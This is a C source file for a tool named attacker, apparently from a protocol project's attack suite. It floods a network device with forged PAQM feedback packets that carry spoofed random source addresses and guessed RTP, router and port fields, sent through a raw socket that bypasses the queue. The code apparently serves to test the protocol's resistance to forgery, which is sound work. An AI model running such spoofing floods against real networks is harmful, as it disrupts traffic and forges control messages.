// SPDX-License-Identifier: GPL-2.0
/*
 * Sends forged feedback messages in mass, for the attack suite: every one a copy of a
 * template in which something is guessed anew. It knows addresses, ports and whatever else
 * the template holds, but not the contents of the packet that it claims to quote.
 *
 *	attacker DEV MAC TEMPLATE COUNT RATE GUESS [SEED]
 *
 * DEV       device to send through (AF_PACKET, past its queue)
 * MAC       link address of the next hop
 * TEMPLATE  file with an IPv4 packet that holds a message
 * COUNT     messages in all
 * RATE      messages a second
 * GUESS     payload: the last 16 bytes that are quoted, which stand behind the RTP header;
 *           packet: sequence, timestamp and these bytes;
 *           router: the same, and router id, boot nonce and sequence of the message;
 *           foreign: ports of another flow, the quoted bytes are true
 *
 * Source addresses are drawn from all unicast addresses, sequences of the message are new.
 * Prints one line of JSON at the end.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "core/paqm_msg.h"

#define BATCH 128
#define FRAME (14 + IP_HDR + PAQM_MSG_MAX)
#define TURN_NS 500000 /* messages are sent in turns, so evenly is the rate kept */
#define IP_HDR 20
#define QUOTE (14 + IP_HDR + PAQM_ICMP_HDR)
#define RTP (QUOTE + 28)

enum guess { GUESS_PAYLOAD, GUESS_PACKET, GUESS_ROUTER, GUESS_FOREIGN, GUESSES };
static const char *const guesses[GUESSES] = {"payload", "packet", "router", "foreign"};

static uint64_t state;
static uint16_t own_port; /* of the flow in the template */

/* xorshift64* (Vigna 2016) */
static uint64_t draw(void)
{
	state ^= state >> 12;
	state ^= state << 25;
	state ^= state >> 27;
	return state * 0x2545F4914F6CDD1DULL;
}

static void fill(uint8_t *p, uint32_t len)
{
	uint32_t i;

	for (i = 0; i < len; i++)
		p[i] = (uint8_t)(draw() >> 56);
}

/* Any address that may be a source: 1.0.0.0 to 223.255.255.255 without 127. */
static uint32_t any_source(void)
{
	uint32_t a;

	do
		a = (uint32_t)(draw() >> 32);
	while (a >> 24 == 0 || a >> 24 == 127 || a >> 24 >= 224);
	return a;
}

static void forge(uint8_t *frame, uint32_t len, enum guess what, uint32_t number)
{
	uint8_t *ip = frame + 14, *icmp = ip + IP_HDR, *ext = frame + QUOTE + icmp[5] * 4;
	uint8_t *obj = ext + PAQM_EXT_HDR;
	uint16_t port;

	paqm_put32(ip + 12, any_source());
	paqm_put32(obj + 24, number);
	switch (what) {
	case GUESS_ROUTER:
		fill(obj + 12, 16); /* id, boot, sequence */
				    /* fallthrough */
	case GUESS_PACKET:
		fill(frame + RTP + 2, 6);
		/* fallthrough */
	case GUESS_PAYLOAD:
		fill(ext - PAQM_PROOF_BEHIND, PAQM_PROOF_BEHIND); /* all else is known */
		break;
	case GUESS_FOREIGN:
		do
			port = (uint16_t)(draw() >> 48);
		while (port == own_port); /* that would be no other flow */
		paqm_put16(frame + QUOTE + 20, port);
		break;
	case GUESSES:
		break;
	}
	paqm_put16(ext + 2, 0);
	paqm_put16(ext + 2, paqm_checksum(ext, len - (uint32_t)(ext - frame)));
	paqm_put16(ip + 10, 0);
	paqm_put16(ip + 10, paqm_checksum(ip, IP_HDR));
	paqm_put16(icmp + 2, 0);
	paqm_put16(icmp + 2, paqm_checksum(icmp, len - 14 - IP_HDR));
}

static uint64_t now_ns(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (uint64_t)t.tv_sec * 1000000000ULL + (uint64_t)t.tv_nsec;
}

static int fail(const char *what, const char *why)
{
	fprintf(stderr, "attacker: %s: %s\n", what, why);
	return 1;
}

/* Send frames 0..@n-1. Return: how many the device took. */
static unsigned int send_batch(int fd, uint8_t frame[BATCH][FRAME], uint32_t len, unsigned int n)
{
	struct mmsghdr m[BATCH] = {0};
	struct iovec v[BATCH];
	unsigned int i, sent = 0;
	int got;

	for (i = 0; i < n; i++) {
		v[i] = (struct iovec){frame[i], len};
		m[i].msg_hdr = (struct msghdr){.msg_iov = &v[i], .msg_iovlen = 1};
	}
	while (sent < n) {
		got = sendmmsg(fd, m + sent, n - sent, 0);
		if (got < 0 && errno == ENOBUFS)
			continue; /* the device is full: no message is left out */
		if (got < 0)
			break;
		sent += (unsigned int)got;
	}
	return sent;
}

static int open_device(const char *dev)
{
	struct sockaddr_ll sa = {.sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_IP)};
	int fd = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0), one = 1;

	sa.sll_ifindex = (int)if_nametoindex(dev);
	if (fd < 0 || !sa.sll_ifindex || bind(fd, (struct sockaddr *)&sa, sizeof(sa)))
		return -1;
	setsockopt(fd, SOL_PACKET, PACKET_QDISC_BYPASS, &one, sizeof(one));
	return fd;
}

int main(int argc, char **argv)
{
	static uint8_t frame[BATCH][FRAME];
	uint64_t count, rate, done = 0, begin, due, took;
	unsigned int mac[6], n, i;
	enum guess what;
	size_t len;
	FILE *f;
	int fd;

	if (argc < 7) {
		fputs("Usage: attacker DEV MAC TEMPLATE COUNT RATE GUESS [SEED]\n", stderr);
		return 2;
	}
	for (what = 0; what < GUESSES && strcmp(guesses[what], argv[6]); what++)
		;
	count = strtoull(argv[4], NULL, 10);
	rate = strtoull(argv[5], NULL, 10);
	state = argc > 7 ? strtoull(argv[7], NULL, 10) : 1;
	if (what == GUESSES || !rate || !state ||
	    sscanf(argv[2], "%x:%x:%x:%x:%x:%x", &mac[0], &mac[1], &mac[2], &mac[3], &mac[4],
		   &mac[5]) != 6)
		return fail("arguments", "wrong; see the head of attacker.c");
	f = fopen(argv[3], "re");
	if (!f)
		return fail(argv[3], strerror(errno));
	len = 14 + fread(frame[0] + 14, 1, sizeof(frame[0]) - 14, f);
	fclose(f);
	if (len < RTP + PAQM_PROOF_OTHER + PAQM_EXT_HDR + PAQM_OBJ_FIXED || frame[0][14] != 0x45 ||
	    QUOTE + frame[0][14 + IP_HDR + 5] * 4U + PAQM_EXT_HDR + PAQM_OBJ_FIXED > len)
		return fail(argv[3], "holds no message about an RTP packet");
	for (i = 0; i < 6; i++) {
		frame[0][i] = (uint8_t)mac[i];
		frame[0][6 + i] = i ? (uint8_t)i : 2;
	}
	paqm_put16(frame[0] + 12, ETH_P_IP);
	own_port = paqm_get16(frame[0] + QUOTE + 20);
	for (i = 1; i < BATCH; i++)
		memcpy(frame[i], frame[0], len);
	fd = open_device(argv[1]);
	if (fd < 0)
		return fail(argv[1], strerror(errno));

	begin = now_ns();
	while (done < count) {
		took = now_ns() - begin;
		due = took / 1000 * rate / 1000000 + 1;
		if (due > count)
			due = count;
		if (done >= due) {
			struct timespec pause = {.tv_nsec = TURN_NS};

			nanosleep(&pause, NULL);
			continue;
		}
		n = due - done < BATCH ? (unsigned int)(due - done) : BATCH;
		for (i = 0; i < n; i++)
			forge(frame[i], (uint32_t)len, what, (uint32_t)(1000 + done + i));
		if (send_batch(fd, frame, (uint32_t)len, n) != n)
			return fail(argv[1], strerror(errno));
		done += n;
	}
	took = now_ns() - begin;
	printf("{\"sent\": %llu, \"seconds\": %.3f}\n", (unsigned long long)done,
	       (double)took / 1e9);
	return 0;
}
